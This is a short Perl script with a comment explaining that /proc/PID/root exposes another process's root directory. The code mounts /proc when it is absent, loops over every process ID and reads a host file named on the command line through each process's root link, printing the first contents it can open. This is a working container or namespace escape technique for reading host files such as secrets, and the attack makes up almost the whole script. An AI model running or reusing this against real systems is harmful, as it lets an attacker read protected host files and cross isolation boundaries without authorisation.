# A file of the host's, by another process's root directory.
#
# /proc/PID/root is the root directory of a process, whatever ours is. So is /proc/PID/cwd its working directory. The
# kernel lets those follow these links who could also debug the process: root of the same user namespace, say.
#
# Argument: the file's path on the host.
use strict;
use warnings;

my ($file) = @ARGV;
mkdir '/proc';
-e '/proc/self' or system 'mount', '-t', 'proc', 'proc', '/proc';

print "inside: looking for $file\n";
opendir my $processes, '/proc' or die;
for my $process (grep { /^\d+$/ } readdir $processes) {
    my $path = "/proc/$process/root$file";
    if (open my $secret, '<', $path) {
        print "inside: $path says ", <$secret>;
        exit;
    }
    print "inside: $path: $!\n";
}
